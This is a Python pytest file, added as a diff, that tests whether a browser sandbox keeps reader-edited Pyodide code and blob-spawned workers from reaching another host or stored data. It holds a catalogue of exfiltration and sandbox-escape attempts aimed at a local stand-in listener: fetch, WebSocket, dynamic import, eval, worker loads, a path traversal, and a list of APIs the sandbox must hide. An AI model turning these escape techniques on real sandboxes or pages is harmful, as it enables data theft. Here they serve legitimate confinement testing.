@@ -1,0 +1,199 @@
+"""A reader's Python reaches neither another host nor what the browser stores."""
+
+import json
+import socket
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser
+from support.engines import ENGINES, HOW_TO
+from support.reader import set_limits
+from support.static_server import StaticServer
+
+pytestmark = pytest.mark.browser
+
+type Ask = Callable[..., Any]
+"""Evaluates a function with arguments in a page; waits for what it promises."""
+
+CHAPTER = "lens-distortion/"
+OPEN = (b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/javascript\r\n"
+        b"Content-Length: 0\r\nConnection: close\r\n\r\n")  # fmt: skip
+
+
+class Elsewhere:
+    """Another host, which lets every page read what it sends, and notes what reaches it."""
+
+    def __init__(self) -> None:
+        self.heard: list[bytes] = []
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.address = f"127.0.0.1:{self.socket.getsockname()[1]}"
+        threading.Thread(target=self._listen, daemon=True).start()
+
+    def _listen(self) -> None:
+        while True:
+            try:
+                connection, _ = self.socket.accept()
+            except OSError:  # closed
+                return
+            with connection:
+                self.heard.append(connection.recv(1000))
+                connection.sendall(OPEN)
+
+    def note(self) -> list[bytes]:
+        """What was heard, after all that came before this call."""
+        with socket.create_connection(self.socket.getsockname()) as last:
+            last.sendall(b"last")
+            last.recv(1)
+        heard, self.heard = self.heard[:-1], []
+        return heard
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Elsewhere]:
+    host = Elsewhere()
+    yield host
+    host.socket.close()
+
+
+@contextmanager
+def page(name: str, chromium: Browser, url: str, profile: Path) -> Iterator[Ask]:
+    """A page of the book in a browser of that name."""
+    if name == "Chromium":
+        with chromium.new_context(service_workers="block") as context:
+            set_limits(context)
+            tab = context.new_page()
+            tab.goto(url)
+            yield lambda expression, *given: tab.evaluate(
+                f"(given) => ({expression})(...given)", given
+            )
+        return
+    opened = ENGINES[name](profile)
+    if opened is None:
+        pytest.skip(f"{name}: {HOW_TO}")
+    with opened as engine:
+        engine.open(url)
+        yield engine.ask
+
+
+BROWSERS = ["Chromium", "Firefox", pytest.param("WebKitGTK", marks=pytest.mark.deep)]
+"""WebKitGTK runs Python ten times as slowly."""
+
+WAYS = """(address) => {
+  const url = `http://${address}/secret`;
+  const loads = (thing) => new Promise((resolve) => { thing.onerror = thing.onopen = resolve; });
+  const xhr = new XMLHttpRequest();
+  const inner = `fetch("${url}").catch(() => {}).then(() => postMessage(""))`;
+  return [
+    () => fetch(url),
+    () => fetch(url, {method: 'POST', body: 'secret', mode: 'no-cors', keepalive: true}),
+    () => import(url),
+    () => { xhr.open('GET', url, false); xhr.send(); },
+    () => loads(new WebSocket(`ws://${address}/secret`)),
+    () => loads(new EventSource(url)),
+    () => loads(new Worker(url)),
+    () => new Promise((resolve) => {
+      const nested = new Worker(URL.createObjectURL(new Blob([inner])));
+      nested.onmessage = nested.onerror = resolve;
+    }),
+    () => importScripts(url),
+    () => new FontFace('secret', `url(${url})`).load(),
+    () => caches.open('secret').then((cache) => cache.add(url)),
+    () => (0, eval)(`import('${url}')`),
+  ];
+}"""
+"""What a script of a worker can try."""
+FROM_A_BLOB = f"""async (address) => {{
+  const source = `({{}}).constructor; const ways = ({WAYS.replace("`", "\\`").replace("$", "\\$")})
+    ("${{address}}");
+    Promise.allSettled(ways.map(async (way) => way())).then(() => postMessage('tried'));`;
+  const worker = new Worker(URL.createObjectURL(new Blob([source], {{type: 'text/javascript'}})));
+  return new Promise((resolve, reject) => {{
+    worker.onmessage = ({{data}}) => resolve(data);
+    worker.onerror = ({{message}}) => reject(new Error(message));
+  }});
+}}"""
+
+
+@pytest.mark.parametrize("name", ["Chromium", "Firefox", "WebKitGTK"])
+def test_the_policy_of_a_page_holds_workers_of_blobs_which_reach_no_other_host(
+    name: str, chromium: Browser, site_server: StaticServer, elsewhere: Elsewhere, tmp_path: Path
+) -> None:
+    with page(name, chromium, f"{site_server.url}licences/", tmp_path) as ask:
+        assert ask(FROM_A_BLOB, elsewhere.address) == "tried"
+    assert elsewhere.note() == []
+
+
+HIDDEN = (
+    "fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport importScripts"
+    " indexedDB IDBFactory caches CacheStorage BroadcastChannel navigator sendBeacon cookieStore"
+    " Worker SharedWorker MessageChannel MessagePort postMessage onmessage addEventListener"
+    " dispatchEvent FontFace fonts eval setTimeout setInterval close location origin"
+    " webkitRequestFileSystem webkitRequestFileSystemSync Request Response URL Blob"
+)
+EDIT = f"""def _encoded(photo):
+    import js, pyodide_js
+    from pyodide.code import run_js
+    from pyodide.ffi import JsProxy
+    address = "ADDRESS"
+    url = f"http://{{address}}/secret"
+    ways = [
+        lambda: js.fetch(url),
+        lambda: js.XMLHttpRequest.new().open("GET", url),
+        lambda: run_js(f"import('{{url}}')"),
+        lambda: js.Object.constructor(f"import('{{url}}')")(),
+        lambda: js.Function.new(f"import('{{url}}')")(),
+        lambda: pyodide_js.loadPackage(url),
+        lambda: js.WebSocket.new(f"ws://{{address}}/secret"),
+        lambda: js.postMessage(None),
+        lambda: js.indexedDB.databases(),
+        lambda: js.navigator.storage.getDirectory(),
+        lambda: __import__("sys").meta_path[-1]._fetch(f"../../../{{address}}/secret"),
+    ]
+    for way in ways:
+        try:
+            way()
+        except Exception:
+            pass
+    seen, queue, found = js.Set.new(), [js.globalThis], []
+    while queue:
+        thing = queue.pop()
+        if seen.has(thing) or js.ArrayBuffer.isView(thing):
+            continue
+        seen.add(thing)
+        for name in js.Object.getOwnPropertyNames(thing):
+            try:
+                about = js.Object.getOwnPropertyDescriptor(thing, name)
+                parts = [getattr(about, part, None) for part in ("value", "get", "set")]
+            except Exception:  # a prototype that is no object of its kind
+                continue
+            parts = [part for part in parts if isinstance(part, JsProxy)]
+            found += [name] if parts and name in {HIDDEN.split()!r} else []
+            queue += parts
+    print("found:", found, seen.size > 300)
+    return to_rgba8(encode_srgb_table(photo.linear))
+"""
+RUN = """async (source) => {
+  const {inside} = await customElements.whenDefined('simulation-figure');
+  const address = new URL(document.body.dataset.runtime, location.href).href;
+  const runtime = new inside.Runtime(address, () => ['lens-distortion'], inside.beginConfined);
+  const frame = {figure: 'figure-x', scene: 'lens-distortion', values: '{}', tier: ''};
+  const edits = JSON.stringify({'simulations.scenes.lens_distortion.stages:_encoded': source});
+  const {problem, printed} = await runtime.call('render_edited', {...frame, edits});
+  await runtime.call('forget', {figure: 'figure-x'}); // what was begun has had its turn
+  return [problem, printed];
+}"""
+
+
+@pytest.mark.parametrize("name", BROWSERS)
+def test_edited_python_finds_no_way_to_another_host_or_to_what_is_stored(
+    name: str, chromium: Browser, site_server: StaticServer, elsewhere: Elsewhere, tmp_path: Path
+) -> None:
+    with page(name, chromium, site_server.url + CHAPTER, tmp_path) as ask:
+        problem, printed = ask(RUN, EDIT.replace("ADDRESS", elsewhere.address))
+    assert problem is None, json.dumps(problem)
+    assert printed == "found: [] True\n"
+    assert elsewhere.note() == []
